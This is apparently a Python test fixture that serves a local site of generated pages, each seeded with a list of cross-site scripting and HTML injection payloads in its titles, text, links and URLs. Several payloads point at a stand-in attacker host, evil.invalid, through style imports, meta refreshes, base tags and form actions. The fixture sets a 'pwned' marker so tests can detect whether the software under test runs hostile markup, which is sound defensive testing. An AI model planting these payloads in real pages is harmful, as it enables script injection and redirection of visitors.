"""A site whose every word attacks whoever shows it: titles, anchors, addresses, texts, hosts."""

from __future__ import annotations

from collections.abc import Iterator
from html import escape
from itertools import cycle
from random import Random
from urllib.parse import quote

from tests.site.server import Site

MARK = "pwned"
"""The attacks set this property of the window, or ask for an address with it."""

PAYLOADS = (
    f"<script>window.{MARK}=1</script>",
    f"<img src=x onerror=window.{MARK}=1>",
    f'"><svg onload=window.{MARK}=1>',
    f"'-window.{MARK}-'",
    f"javascript:window.{MARK}=1",
    f"</textarea></script><script>alert('{MARK}')</script>",
    f'<iframe srcdoc="<script>parent.{MARK}=1</script>"></iframe>',
    f'<a href="javascript:window.{MARK}=1">click</a>',
    f"{{{{constructor.constructor('window.{MARK}=1')()}}}}",
    f"<style>@import 'http://evil.invalid/{MARK}';</style>",
    f'<meta http-equiv=refresh content="0;url=http://evil.invalid/{MARK}">',
    f"<base href=http://evil.invalid/{MARK}/>",
    f"<form action=http://evil.invalid/{MARK}><button>send</button></form>",
    "\u202egnp.exe\u202c \u2066turned\u2069",
    "w" * 3000,
    "z\u0351\u0308" * 400,
    "&lt;b&gt; &amp;amp; %3Cb%3E \\u003cb\\u003e",
)

_BEES = (
    "honey",
    "bee",
    "hive",
    "queen",
    "drone",
    "comb",
    "wax",
    "nectar",
    "pollen",
    "swarm",
    "smoke",
)
_ROADS = ("road", "stone", "lorry", "gravel", "town", "bridge", "tunnel", "lane", "kerb", "toll")
PAGES = 34


def article(number: int, more: str = "") -> str:
    """Every second page is about bees; each carries one attack everywhere it can."""
    attack = PAYLOADS[number % len(PAYLOADS)]
    text = _text(number, _BEES if number % 2 == 0 else _ROADS)
    # Raw in the body, so that it is live markup there; escaped where it shall survive as text.
    return (
        f"<html><head><title>{escape(attack)} {number}</title>"
        f'<meta name=description content="{escape(attack)}"></head><body onload="{MARK}=1">'
        f"<h1>{escape(attack)}</h1><main>{attack}<p>{text}</p><p>{escape(attack)} {text}</p>{more}"
        f"{''.join(_anchors(number))}</main></body></html>"
    )


def _text(number: int, words: tuple[str, ...]) -> str:
    """No page is a near copy of another: those would not be asked about."""
    dice = Random(number)
    lines = (" ".join(dice.choices(words, k=9)).capitalize() for _ in range(12))
    return "".join(f"{line} number {dice.randrange(9999)}. " for line in lines)


def _anchors(number: int) -> Iterator[str]:
    attacks = cycle(PAYLOADS)
    for other in range(PAGES):
        if other != number:
            yield f'<a href="{escape(path(other))}">{escape(next(attacks))}</a> honey bee '
    yield f'<a href="javascript:window.{MARK}=1">honey bee hive</a>'
    yield f'<a href="data:text/html,<script>window.{MARK}=1</script>">honey</a>'


def path(number: int) -> str:
    """An address that carries the attack too."""
    return f"/p{number}?q={quote(PAYLOADS[number % len(PAYLOADS)][:200], safe='')}"


class HostileSite:
    """It, on one host of the local web; pages may be rewritten while it runs."""

    def __init__(self, site: Site) -> None:
        self._site, self._host = site, site.addresses[1]
        for number in range(PAGES):
            self.write(number)

    @property
    def missing(self) -> str:
        """An address whose visit fails."""
        return self._site.url(self._host, "/none?" + quote(PAYLOADS[1], safe=""))

    def write(self, number: int, more: str = "") -> None:
        self._site.pages(self._host, {f"/p{number}": article(number, more)})

    def url(self, number: int) -> str:
        return self._site.url(self._host, path(number))
